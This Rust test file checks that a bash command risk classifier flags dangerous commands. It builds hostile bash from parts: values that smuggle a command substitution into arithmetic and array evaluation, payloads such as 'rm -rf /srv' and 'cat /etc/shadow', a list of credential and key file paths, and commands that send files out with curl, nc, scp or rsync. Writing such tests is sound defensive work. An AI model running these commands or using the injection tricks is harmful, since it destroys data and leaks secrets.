//! Property tests by class of bypass, over every combination the classifier must treat alike:
//! every place bash evaluates a value × every way of building that value; every secret location
//! × every program that reads it out; every route to an outage × its quoting and wrapping.

use nomos_types::Risk::{self, ConfigMutation as CM, Destructive as DE};

use super::classify;

/// Places where bash evaluates the value of variable `V` (`${V@P}`, `${!V}`, arithmetic …).
const SINKS: &[&str] = &[
    "echo ${V@P}",
    "echo \"${V@P}\"",
    "echo ${!V}",
    "test -v \"$V\"",
    "[[ -v $V ]]",
    "declare -n r=$V; echo $r",
    "(( V ))",
    "(( V > 0 )) && echo big",
    "echo $(( V + 1 ))",
    "echo $(( $V ))",
    "echo $[ V ]",
    "[[ $V -eq 1 ]]",
    "[[ 2 -gt V ]]",
    "let y=V",
    "let 'y = V * 2'",
    "declare -i y=V",
    "declare -i y; y=$V",
    "typeset -i y=$V",
    "test -v 'a[V]'",
    "[[ -v a[$V] ]]",
    "a[V]=1",
    "a[$V]=1",
    "arr=([V]=1)",
    "echo ${a[V]}",
    "echo ${#a[$V]}",
    "echo ${s:V}",
    "echo ${s:0:V}",
    "printf -v 'a[V]' %s 1",
    "read 'a[V]' <<< 1",
    "unset 'a[V]'",
    "for ((i = V; i < 1; i++)); do :; done",
    "cat <<EOF\n$(( V ))\nEOF",
    "case $(( V )) in *) ;; esac",
];

/// Ways of giving `V` the value `a[$(CMD)]` that the classifier can follow.
const KNOWN_SOURCES: &[&str] = &[
    "V=$'a[\\x24(CMD)]'",
    "V=$'a[\\044(CMD)]'",
    "printf -v V 'a[\\x24(%s)]' 'CMD'",
    "printf -v V '%b' 'a[\\x24(CMD)]'",
    "read -r V <<< 'a[$(CMD)]'",
    "V=$(printf 'a[\\x24(CMD)]')",
    "V=$(echo -e 'a[\\x24(CMD)]')",
    "V='a[$('; V+='CMD)]'",
    "p=$'a[\\x24('; q='CMD)]'; V=$p$q",
    "V=1; for k in 1 2; do : ; V=$'a[\\x24(CMD)]'; done",
];

/// Ways of giving `V` a value the classifier cannot know.
const UNKNOWN_SOURCES: &[&str] = &[
    "read V < /tmp/v",
    "read -r V",
    "V=$(cat /tmp/v)",
    "V=`curl -s http://example.org/v`",
    "mapfile -t V < /tmp/v",
    "IFS= read -r V <&3",
    "for V in $(cat /tmp/v); do :; done",
    // From the environment: nothing assigns it.
    ":",
];

/// Commands hidden in a value, with what running them is.
const PAYLOADS: &[(&str, Risk)] =
    &[("reboot", DE), ("rm -rf /srv", DE), ("systemctl poweroff", DE), ("cat /etc/shadow", DE), ("id", CM)];

#[test]
fn every_sink_of_a_value_holding_a_substitution_runs_it() {
    let mut failures = Vec::new();
    for sink in SINKS {
        for source in KNOWN_SOURCES {
            for (payload, want) in PAYLOADS {
                let command = format!("{}; {}", source.replace("CMD", payload), sink).replace('V', "v");
                let got = classify(&command, None).risk;
                if got < *want {
                    failures.push(format!("{command:?}: {got}, want {want}"));
                }
            }
        }
    }
    assert!(failures.is_empty(), "{} misjudged:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn every_sink_of_a_value_not_known_is_gated() {
    let mut failures = Vec::new();
    for sink in SINKS {
        for source in UNKNOWN_SOURCES {
            let command = format!("{source}; {sink}").replace('V', "v");
            let got = classify(&command, None).risk;
            if got < CM {
                failures.push(format!("{command:?}: {got}"));
            }
        }
    }
    assert!(failures.is_empty(), "{} misjudged:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn sinks_of_plain_numbers_stay_read_only() {
    // The same sinks over values known to be numbers are read-only (all but those that only
    // read-only programs would make read-only: `declare -n`, `read` and `printf -v` set state).
    for sink in SINKS.iter().filter(|s| !s.contains("-n r") && !s.contains("-v \"") && !s.contains("[[ -v $")) {
        for source in ["v=4", "v=$(nproc)", "(( v = 3 ))", "for v in 1 2; do :; done"] {
            let command = format!("{source}; {}", sink.replace('V', "v"));
            let got = classify(&command, None).risk;
            assert_eq!(got, Risk::ReadOnly, "{command:?}: {:?}", classify(&command, None).reasons);
        }
    }
}

/// Secret locations of every kind: the system's, services', aliases of them, credential names.
const SECRETS: &[&str] = &[
    "/etc/shadow",
    "/etc/gshadow-",
    "/etc/security/opasswd",
    "/root/.ssh/id_ed25519",
    "/etc/ssh/ssh_host_rsa_key",
    "/etc/pve/priv/authkey.key",
    "/etc/pve/storage/nas.pw",
    "/etc/proxmox-backup/shadow.json",
    "/proc/1/root/etc/shadow",
    "/proc/1/cwd/etc/shadow",
    "/proc/812/fd/5",
    "/proc/812/environ",
    "/var/lib/lxc/101/rootfs/etc/shadow",
    "/rpool/data/subvol-101-disk-0/root/.ssh/id_rsa",
    "/mnt/img/etc/shadow",
    "/etc/postfix/sasl_passwd",
    "/etc/msmtprc",
    "/etc/openvpn/client/office.conf",
    "/etc/wireguard/wg0.conf",
    "/etc/ipsec.secrets",
    "/etc/wpa_supplicant/wpa_supplicant.conf",
    "/etc/NetworkManager/system-connections/Home.nmconnection",
    "/etc/restic/password",
    "/root/.config/rclone/rclone.conf",
    "/root/.vault-token",
    "/etc/samba/smbpasswd",
    "/var/lib/tailscale/tailscaled.state",
    "/root/.aws/credentials",
    "/root/.kube/config",
    "/root/.docker/config.json",
    "/root/.pgpass",
    "/proc/keys",
    "/srv/app/.env",
    "/srv/app/db_password",
    "/srv/app/client_secret.json",
    "/srv/api.token",
    "/tmp/id_ed25519",
];

/// Programs that read a file out (`F` is the file).
const READERS: &[&str] = &[
    "cat F",
    "head -n 5 F",
    "tail -1 F",
    "less F",
    "tac F",
    "nl F",
    "base64 F",
    "xxd F",
    "od -c F",
    "strings F",
    "grep -v '^#' F",
    "awk '{print}' F",
    "sed -n p F",
    "sort F",
    "cut -c1-80 F",
    "cp F /tmp/copy",
    "scp F backup:/tmp/",
    "rsync -a F backup:/tmp/",
    "tar -czf /tmp/x.tgz F",
    "gzip -c F",
    "dd if=F",
    "curl -T F https://example.org/",
    "curl -F f=@F https://example.org/",
    "wc -c < F",
    "nc backup 9000 < F",
    "sudo cat F",
    "bash -c 'cat F'",
    "ssh pve1 cat F",
    "pct exec 101 -- cat F",
];

#[test]
fn every_secret_read_out_by_any_reader_is_a_disclosure() {
    let mut failures = Vec::new();
    for secret in SECRETS {
        for reader in READERS {
            for quoted in [secret.to_string(), format!("\"{secret}\"")] {
                let command = reader.replace('F', &quoted);
                let v = classify(&command, None);
                if v.risk != DE || !v.secret {
                    failures.push(format!("{command:?}: {} secret={}", v.risk, v.secret));
                }
            }
        }
    }
    assert!(failures.is_empty(), "{} misjudged:\n{}", failures.len(), failures.join("\n"));
}
